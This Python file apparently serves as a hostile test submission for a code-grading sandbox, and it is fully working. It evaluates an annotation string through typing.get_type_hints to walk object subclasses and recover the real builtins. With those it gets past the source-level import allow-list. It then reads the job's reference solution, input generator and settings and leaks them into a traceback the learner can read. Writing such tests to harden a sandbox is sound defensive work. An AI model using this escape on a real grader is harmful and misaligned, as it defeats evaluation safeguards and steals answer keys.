"""Read the job's trusted files, which the submission's process can reach at
/job: the reference implementation (the very code a learner is asked to beat,
and on a hiring exercise the answer), the input generator and the job's
settings. An exception whose message carries them puts them into the report's
traceback, which the learner reads. The report must never hold the reference's
source (the suite's reference.py carries a marker comment to look for)."""
import typing


def _real_builtins(hint: "lambda: [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0].__init__.__globals__['__builtins__']"):
    """The import allow-list is a policy, not the boundary: typing evaluates this
    annotation string, which the source check never parses, and it reaches the
    real builtins through os._wrap_close. The payload below then runs with them."""


_BUILTINS = typing.get_type_hints(_real_builtins)["hint"]()
PAYLOAD = r'''
import numpy as np

import os

FILES = ("/job/reference.py", "/job/inputs.py", "/job/job.json")


def _read_job_files():
    found = []
    for path in FILES:
        try:
            with open(path, encoding="utf-8", errors="replace") as handle:
                found.append(f"{path}: {handle.read()[:2000]!r}")  # one line: tracebacks keep few lines
        except OSError:
            continue
    return found


_FINDINGS = _read_job_files()
if _FINDINGS:
    raise RuntimeError("ESCAPED: the job's files: " + " | ".join(_FINDINGS))


def transform(x):
    return np.sqrt(x * x + 1.0) * 2.0 - x
'''
_namespace = {"__builtins__": _BUILTINS, "__name__": "payload"}
_BUILTINS["exec"](PAYLOAD, _namespace)
transform = _namespace["transform"]
_FINDINGS = _namespace.get("_FINDINGS")  # for the sandbox-layer tests, which run this file directly
_written = _namespace.get("_written")
